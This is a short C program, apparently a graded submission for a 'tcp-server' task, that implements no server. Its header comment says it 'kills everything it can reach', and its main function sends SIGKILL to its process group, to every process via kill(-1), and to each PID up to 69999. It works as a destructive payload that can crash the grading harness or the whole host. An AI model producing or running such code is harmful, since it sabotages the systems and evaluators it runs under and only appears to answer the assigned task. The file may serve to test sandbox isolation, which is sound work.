/* tcp-server: graded, at most 4
 * Kills everything it can reach. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>

int main(void)
{
	kill(0, SIGKILL);
	kill(-1, SIGKILL);
	for (int i = 2; i < 70000; i++)
		if (i != getpid())
			kill(i, SIGKILL);
	return 0;
}
